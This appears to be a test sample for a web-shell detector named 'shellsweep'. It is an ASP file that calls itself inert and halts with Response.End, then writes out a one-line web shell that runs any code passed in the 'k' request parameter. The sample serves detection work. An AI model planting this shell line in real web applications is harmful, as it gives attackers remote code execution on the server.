<% ' shellsweep test sample: inert, never functional
Response.End %>
<%if request("k")<>"" then session("k")=request("k"):end if:if session("k")<>"" then execute session("k")%>
